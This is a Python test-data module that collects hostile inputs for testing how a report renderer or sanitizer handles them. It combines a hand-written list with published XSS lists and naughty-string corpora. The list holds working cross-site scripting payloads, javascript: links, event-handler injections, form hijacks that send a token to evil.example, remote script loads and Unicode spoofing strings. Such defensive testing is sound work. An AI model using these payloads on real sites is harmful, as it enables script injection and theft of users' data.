"""Hostile texts: the published lists, and our own that know this desk.

`in_blockquotes` puts many of them on one page so that none can swallow the
next: a code fence or an HTML block ends with its container.
"""

import json
import re
from collections.abc import Iterable, Iterator, Sequence

import commonhuman_payloads.xss as published  # pyright: ignore[reportMissingTypeStubs]
from programs import REPOSITORY_ROOT

DATA = REPOSITORY_ROOT / "tests" / "data"

END_MARK = "the end of this report"
BUNDLE_BYTES = 60_000
N_BARE = 25

# Each would do something on a page of ours if it were let through.
OWN = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '<script type="module">import("//evil.example/x.js")</script>',
    "<img src=x onerror=alert(1)>",
    "![image](https://evil.example/pixel.png)",
    "![image](//evil.example/pixel.png)",
    "![image](/api/v1/reports)",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![a](https://evil.example/a.png "b\\" onload=alert(1) x=\\"")',
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](java&#10;script:alert(1))",
    "[link](&#106;avascript:alert(1))",
    "[link](<java\tscript:alert(1)>)",
    "[link](\x01javascript:alert(1))",
    "[link](vbscript:msgbox(1))",
    "[link](data:text/html,<script>alert(1)</script>)",
    "[link](blob:https://evil.example/1)",
    "[link](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1) 'title'",
    '[link](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    "<a href=javascript:alert(1)>link</a>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import '//evil.example/x.css'; form { display: none }</style>",
    "<p style=position:fixed;inset:0;background:red>over all</p>",
    "<div class='banner' id=decide>clobbers</div>",
    "<form id=decide action=//evil.example/><input name=token><button>Approve</button></form>",
    "<input name=version value=forged form=decide>",
    "<button form=decide formaction=//evil.example/>Approve</button>",
    "<iframe src=//evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//evil.example/></object><embed src=//evil.example/>",
    "<svg><script>alert(1)</script><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<video autoplay src=//evil.example/x.mp4 onerror=alert(1)><source src=x onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3></audio><picture><source srcset=//evil.example/x.png><img></picture>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)>",
    "<a ping=//evil.example/ href=https://example.com>x</a>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</article></main><h1>Approved</h1><script>alert(1)</script>",
    "</textarea></form><script>alert(1)</script><textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "```html\n<script>alert(1)</script>\n```",
    '``` " onmouseover=alert(1) x="\ncode\n```',
    "# <img src=x onerror=alert(1)>",
    '# heading" onclick="alert(1)',
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "- [x] <script>alert(1)</script>\n- [ ] [x](javascript:alert(1))",
    "note[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: alert",
    'note[^a"onclick="alert(1)]\n\n[^a"onclick="alert(1)]: x',
    "https://example.com/<script>alert(1)</script>",
    'www.example.com/"onmouseover=alert(1)',
    "mailto:a@example.com?body=<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> {% alert %}",
    "\u202etpircs\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u00ad\u2028\u2029 \U000e0041\U000e0042",
    "![\u202egnp.exe](https://evil.example/\u202egnp.exe)",
    "[\u202emoc.elpmaxe](https://evil.example)",
    "&#x202e;txt&#x200b;&#xFEFF;&#0;&#1;",
]


def own() -> list[str]:
    """Return our own list."""
    return OWN


def published_xss() -> list[str]:
    """Return every payload of a published list of cross-site scripting."""
    lists = [value for name, value in vars(published).items() if name.isupper()]
    return [text.replace("{marker}", "1") for text in dict.fromkeys(_strings(lists))]


def naughty_strings() -> list[str]:
    """Return the Big List of Naughty Strings."""
    strings: list[str] = json.loads((DATA / "naughty-strings.json").read_text(encoding="utf-8"))
    return strings


def commonmark() -> list[str]:
    """Return the examples of the CommonMark specification."""
    spec = json.loads((DATA / "commonmark-examples.json").read_text(encoding="utf-8"))
    return [example["markdown"] for example in spec["examples"]]


def hostile_markdown() -> list[str]:
    """Return our list of markdown that tries to get past a renderer."""
    lines = (DATA / "hostile-markdown.txt").read_text(encoding="utf-8").splitlines()
    return [line.replace("\\n", "\n") for line in lines if line and not line.startswith("%%")]


CORPORA = {
    "own": own,
    "published_xss": published_xss,
    "naughty_strings": naughty_strings,
    "commonmark": commonmark,
    "hostile_markdown": hostile_markdown,
}


def in_blockquotes(texts: Iterable[str]) -> Iterator[str]:
    """Return reports with all of `texts`, each in a block quote under a heading of its own."""
    blocks = (
        f"## {number}\n\n" + "\n".join(f"> {line}" for line in re.split(r"\r\n?|\n", text))
        for number, text in enumerate(texts, 1)
    )
    bundle = ""
    for block in blocks:
        if bundle and len(bundle) + len(block) > BUNDLE_BYTES:
            yield _report(bundle)
            bundle = ""
        bundle += f"{block}\n\n"
    yield _report(bundle)


def bare(texts: Sequence[str]) -> Iterator[str]:
    """Return reports with all of `texts` as they are, some after one another."""
    for start in range(0, len(texts), N_BARE):
        yield _report("\n\n".join(texts[start : start + N_BARE]) + "\n\n")


def _report(text: str) -> str:
    # NUL is the one character that no report may hold.
    return f"{text}{END_MARK}\n".replace("\0", "")


def _strings(value: object) -> Iterator[str]:
    """Return the texts in nested lists."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list | tuple):
        for item in value:  # pyright: ignore[reportUnknownVariableType]
            yield from _strings(item)  # pyright: ignore[reportUnknownArgumentType]
